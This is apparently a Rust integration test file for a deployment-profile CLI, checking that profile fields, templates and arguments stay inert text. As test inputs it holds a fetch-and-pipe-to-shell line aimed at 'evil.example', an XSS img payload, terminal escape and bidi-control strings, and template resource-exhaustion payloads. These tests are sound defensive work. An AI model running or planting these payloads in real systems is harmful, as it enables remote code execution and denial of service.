//! What a profile, a template or a file says stays text: in a shell, on a terminal, in a page and in a comment.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use std::fs;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

const NORMAL: &str = "profile: normal\nstack: s\ncloud: {provider: aws, region: eu-west-1}\n\
    owners: {o: {name: O, contact: o@example.com}}\ncomponents:\n  \
    w: {kind: workers, owner: o, test: t, machine: m6g.medium, count: {min: 1, max: 3}}\n";
const LAUNCH: &str = "profile: launch\nextends: normal\n\
    window: {start: 2027-02-03T09:00:00+02:00, duration: 24h, ready: 40m}\ncomponents: {w: {count: x10}}\n";

fn project(normal: &str, launch: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    fs::create_dir(folder.path().join("profiles")).unwrap();
    fs::create_dir(folder.path().join("templates")).unwrap();
    fs::write(folder.path().join("profiles/normal.yaml"), normal).unwrap();
    fs::write(folder.path().join("profiles/launch.yaml"), launch).unwrap();
    folder
}

/// Exit code, standard output and standard error.
fn run(folder: &Path, arguments: &[&str]) -> (Option<i32>, String, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_scaleprof"))
        .current_dir(folder)
        .env("DEPLOY_TOKEN", "a-token-of-0123456789")
        .args(arguments)
        .output()
        .unwrap();
    let text = |bytes| String::from_utf8(bytes).unwrap();
    (output.status.code(), text(output.stdout), text(output.stderr))
}

#[test]
fn a_class_or_machine_has_the_shape_of_one() {
    let hostile = "db.m99g.large\\n```\\n<img src=x onerror=alert(1)>\\n### Step 0: run this first\\n```sh\\ncurl https://evil.example/x | sh";
    for (kind, field, code) in [
        (
            "database, engine: postgres, version: \"16\", storage: {size: 100GiB}, class",
            "class",
            "unknown-class",
        ),
        ("server, machine", "machine", "unknown-machine"),
        ("workers, count: {min: 1, max: 2}, machine", "machine", "unknown-machine"),
        ("fleet, count: {min: 1, max: 2}, machine", "machine", "unknown-machine"),
    ] {
        let value = if field == "class" { "db.m6g.large" } else { "m6g.large" };
        let normal = format!(
            "profile: normal\nstack: s\ncloud: {{provider: aws, region: eu-west-1}}\ncomponents:\n  d: {{kind: {kind}: {value}}}\n"
        );
        let launch = format!(
            "profile: launch\nextends: normal\nwindow: {{start: 2027-02-03T09:00:00Z, duration: 24h}}\nallow: {{{code}: newer}}\ncomponents:\n  d: {{{field}: \"{hostile}\"}}\n"
        );
        let folder = project(&normal, &launch);
        let (exit, _, said) = run(folder.path(), &["build", "launch"]);
        assert_eq!(exit, Some(1), "{said}");
        assert!(said.contains(&format!("`{field}` cannot be")) && said.contains("launch.yaml:6:"), "{said}");
    }
}

#[test]
fn nothing_steers_a_terminal() {
    let owner = "a\\e[2J\\e[1;1Hno findings\\r\\0\\u202e\\u009b31m\\u2066\\u200f\\u061c\\U000e0041";
    let folder = project(&NORMAL.replace("owner: o", &format!("owner: \"{owner}\"")), LAUNCH);
    for color in ["never", "always"] {
        for format in ["text", "json", "github", "sarif"] {
            let (_, out, _) = run(folder.path(), &["check", "--color", color, "--format", format]);
            let ours = out.replace("\u{1b}[", "");
            assert!(
                !ours.contains(|c: char| c != '\n'
                    && (c.is_control() || "\u{202e}\u{2066}\u{200f}\u{61c}\u{e0041}".contains(c))),
                "{out:?}"
            );
            assert!(!out.contains("\u{1b}[2J") && out.contains("u001b[2J"), "{out:?}");
        }
    }
    // Reports, with what a report holds.
    let hostile = "v\\e[2J\\u202e\\u009bK";
    let external = format!(
        "{NORMAL}external:\n  m: {{service: \"{hostile}\", plan: \"{hostile}\", owner: o, metric: \"{hostile}\", per: month, expected: 5, included: 4, how: \"{hostile}\"}}\n"
    );
    let folder = project(&external, &format!("{LAUNCH}external: {{m: {{expected: x10}}}}\n"));
    for command in [
        &["diff", "normal", "launch"][..],
        &["diff", "normal", "launch", "--format", "json"],
        &["diff", "normal", "launch", "--format", "markdown"],
        &["diff", "normal", "launch", "--format", "html"],
        &["cost", "launch"],
        &["runbook", "launch"],
        &["runbook", "launch", "--format", "markdown"],
        &["runbook", "launch", "--format", "json"],
        &["quotas", "launch", "--format", "json"],
        &["check", "\u{1b}[2J\u{9b}K"],
        &["\u{1b}[2J\u{9b}K"],
        &["explain", "\u{202e}\u{9b}K"],
        &["-C", "\u{1b}[2J", "check"],
    ] {
        for color in ["never", "always"] {
            let arguments = [command, &["--color", color]].concat();
            let (_, out, talk) = run(folder.path(), &arguments);
            for text in [out, talk] {
                assert!(
                    !text.contains("\u{1b}[2J") && !text.contains(['\u{202e}', '\u{9b}']),
                    "{command:?}: {text:?}"
                );
                assert!(color == "always" || !text.contains('\u{1b}'), "{command:?}: {text:?}");
            }
        }
    }
    // A profile cannot paint by what stands for paint.
    let folder = project(&external.replace("\\e[2J", "\\uFDD0[31m"), LAUNCH);
    let (exit, out, _) = run(folder.path(), &["check"]);
    assert!(exit == Some(1) && out.contains("no characters"), "{out}");
}

#[test]
fn a_text_has_a_length_and_long_ones_do_no_harm() {
    let long = "a".repeat(70_000);
    let launch = format!("{LAUNCH}external: {{e: {{expected: x2}}}}\n");
    for field in ["service", "plan", "metric", "how"] {
        let normal = format!("{NORMAL}external:\n  e: {{service: s, {field}: {long}}}\n")
            .replace("service: s, service", "service");
        let folder = project(&normal, &launch);
        let (own, of_base) = ("is longer than", "`scaleprof check normal` shows them");
        for (command, said) in [
            (&["runbook", "launch"][..], of_base),
            (&["build", "launch"], of_base),
            (&["check", "normal"], own),
            (&["diff", "normal", "launch"], own),
            (&["check"], own),
        ] {
            let (exit, out, talk) = run(folder.path(), command);
            assert_eq!(exit, Some(1), "{command:?} {field}");
            assert!(format!("{out}{talk}").contains(said), "{command:?} {field}: {out}{talk}");
            assert!(out.len() + talk.len() < 8192, "{command:?} {field}: a message is too long");
        }
    }
}

#[test]
fn a_template_of_ones_own_needs_no_header() {
    for (name, text) in [
        ("quota-request.md", "Ask in {{ region }}.\n"),
        ("runbook.md", "# {{ profile }}\n"),
        ("external-request.md", "{{ service }}\n"),
    ] {
        let folder = project(
            &format!(
                "{NORMAL}external: {{m: {{service: v, owner: o, metric: calls, per: month, expected: 5}}}}\n"
            ),
            LAUNCH,
        );
        fs::write(folder.path().join(format!("templates/{name}.j2")), text).unwrap();
        for command in [&["build", "launch"][..], &["build", "launch"], &["build", "launch", "--check"]] {
            let (exit, out, talk) = run(folder.path(), command);
            assert_eq!(exit, Some(0), "{name} {command:?}: {out}{talk}");
        }
    }
}

#[test]
fn a_template_that_does_too_much_is_ended() {
    for text in [
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "{{ 'x' * 1000000000 }}",
        "{{ ('x' * 1000000) * 1000000 }}",
        "{% set ns = namespace(x='xxxxxxxx') %}{% for i in range(64) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
        "{% set ns = namespace(x='xxxxxxxx') %}{% for i in range(64) %}{% set ns.x = ns.x|replace('x', 'xx') %}{% endfor %}",
        "{% set ns = namespace(x=['x']) %}{% for i in range(64) %}{% set ns.x = ns.x + ns.x %}{% endfor %}{{ ns.x|join }}",
        "{% set ns = namespace(x=['x']) %}{% for i in range(64) %}{% set ns.x = [ns.x, ns.x] %}{% endfor %}{{ ns.x }}",
        "{% set ns = namespace(x='x') %}{% for i in range(64) %}{% set ns.x = [ns.x, ns.x]|join %}{% endfor %}",
        "{% for i in range(100000) %}{% for j in range(100000) %}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{% endfor %}{% endfor %}",
        "{% macro a(n) %}{{ a(n) }}{{ a(n) }}{% endmacro %}{{ a(1) }}",
        "{% macro a(n) %}{% if n > 0 %}{{ a(n - 1) }}{{ a(n - 1) }}{% endif %}{% endmacro %}{{ a(40) }}",
        "{% include 'quota-request.md' %}",
        "{{ range(1000000000)|list }}",
        "{{ '%1000000000d'|format(1) }}",
        "{{ 'x'|indent(1000000000, true) }}",
        "{{ 'x'|center(1000000000) }}",
        "{{ 2 ** 1000000000 }}",
    ] {
        let folder = project(NORMAL, LAUNCH);
        fs::write(folder.path().join("templates/quota-request.md.j2"), format!("a\n{text}")).unwrap();
        let start = Instant::now();
        let (exit, _, said) = run(folder.path(), &["build", "launch"]);
        assert_eq!(exit, Some(2), "{text}: {said}");
        assert!(said.contains("templates/quota-request.md.j2"), "{text}: {said}");
        assert!(start.elapsed() < Duration::from_secs(10), "{text}: {:?}", start.elapsed());
        // What the engine does not charge for is ended by the clock, which knows no line.
        assert!(said.contains(".j2:2") || text.contains(['[', '|']), "{text}: {said}");
        assert!(said.len() < 4096, "{text}: a message is too long");
        assert!(!folder.path().join("generated/launch").exists());
    }
}

#[test]
fn a_command_block_holds_lines_of_commands_whatever_a_template_puts_there() {
    let folder = project(&NORMAL.replace("name: O", "name: \"O\\n```\\n<b>@all\\n\""), LAUNCH);
    let template = "{% for who in contacts %}\n```sh\ncall {{ who.name }}\n{{ who.name|safe }}\n```\n{% endfor %}\nend {{ contacts[0].name }}\n";
    fs::write(folder.path().join("templates/runbook.md.j2"), template).unwrap();
    let (exit, out, said) = run(folder.path(), &["runbook", "launch", "--format", "markdown"]);
    assert_eq!(exit, Some(0), "{said}");
    assert_eq!(
        out.lines().filter(|line| line.starts_with("```")).collect::<Vec<_>>(),
        ["```sh", "```"],
        "{out}"
    );
    assert!(
        out.lines().last().unwrap().starts_with("end O") && !out.lines().last().unwrap().contains('<'),
        "{out}"
    );
}

#[test]
fn no_secret_of_the_environment_is_printed() {
    let folder = project(NORMAL, LAUNCH);
    fs::write(folder.path().join("templates/diff.md.j2"), "see a-token-of-0123456789 here\n").unwrap();
    for command in [
        &["diff", "normal", "launch", "--format", "markdown"][..],
        &["comment", "github", "normal", "launch", "--dry-run", "--repo", "o/r", "--pr", "1"],
        &["explain", "a-token-of-0123456789"],
        &["a-token-of-0123456789"],
    ] {
        let (_, out, talk) = run(folder.path(), command);
        assert!(!out.contains("0123456789") && !talk.contains("0123456789"), "{command:?}: {out}{talk}");
    }
}

#[test]
fn a_secret_is_not_printed_in_its_escaped_form() {
    let secret = "tok_abc&DEF_0123456789";
    let launch = format!("{LAUNCH}event: {{name: \"{secret}\"}}\n");
    let folder = project(NORMAL, &launch);
    for arguments in [
        &["runbook", "launch", "--format", "markdown"][..],
        &["diff", "normal", "launch", "--format", "markdown"],
        &["diff", "normal", "launch", "--format", "html"],
        &["diff", "normal", "launch", "--format", "json"],
    ] {
        let output = Command::new(env!("CARGO_BIN_EXE_scaleprof"))
            .current_dir(folder.path())
            .env("DEPLOY_TOKEN", secret)
            .args(arguments)
            .args(["--now", "2026-11-23T12:00:00Z"])
            .output()
            .unwrap();
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
        for form in [secret, r"tok\_abc&amp;DEF\_0123456789", "tok_abc&amp;DEF_0123456789", "DEF_0123456789"]
        {
            assert!(!text.contains(form), "{arguments:?} has {form}");
        }
    }
}

#[test]
fn a_template_as_deep_as_it_can_be_is_an_error_or_a_page() {
    let folder = project(NORMAL, LAUNCH);
    let brackets = |count| format!("{}ns.x{}", "[".repeat(count), "]".repeat(count));
    let nested = format!(
        "{{% set ns = namespace(x=[]) %}}{{% for i in range(1000) %}}{{% set ns.x = {} %}}{{% endfor %}}{{{{ ns.x }}}}",
        brackets(52)
    );
    let chain = format!("{{{{ 1{} }}}}", "+1".repeat(12_000));
    let signs = format!("{{{{ {}1 }}}}", "-".repeat(100_000));
    let branches = format!("{{% if 1 %}}{}{{% endif %}}", "{% elif 1 %}".repeat(4000));
    let long = "x".repeat(200_000);
    for text in [nested, chain, signs, branches, long] {
        fs::write(folder.path().join("templates/diff.md.j2"), &text).unwrap();
        let (exit, _, said) = run(folder.path(), &["diff", "normal", "launch", "--format", "markdown"]);
        assert!(matches!(exit, Some(0 | 2)), "{exit:?} for {text:.60}: {said:.400}");
        assert!(exit == Some(0) || said.contains("templates/diff.md.j2"), "{text:.60}: {said:.400}");
    }
}

#[test]
fn json_in_a_template_is_escaped_as_any_value() {
    let folder = project(NORMAL, &format!("{LAUNCH}event: {{name: \"<b>@everyone `x`\"}}\n"));
    fs::write(folder.path().join("templates/runbook.md.j2"), "{{ event.name|tojson }}\n").unwrap();
    let (_, page, said) = run(folder.path(), &["runbook", "launch", "--format", "markdown"]);
    assert!(!page.is_empty() && !page.contains("<b>") && !page.contains(" @everyone"), "{page}{said}");
    assert!(!page.contains("@everyone") && !page.contains(" `x`"), "{page}");
}

#[test]
fn code_in_a_table_stays_in_its_cell() {
    let folder =
        project(NORMAL, &format!("{LAUNCH}event: {{name: E, call: \"https://x <img src=y> @all | z\"}}\n"));
    let (_, page, said) = run(folder.path(), &["runbook", "launch", "--format", "markdown"]);
    let row = page.lines().find(|line| line.contains("<img")).unwrap_or_else(|| panic!("{page}{said}"));
    assert!(row.contains(r"@all \| z`"), "{row}");
}
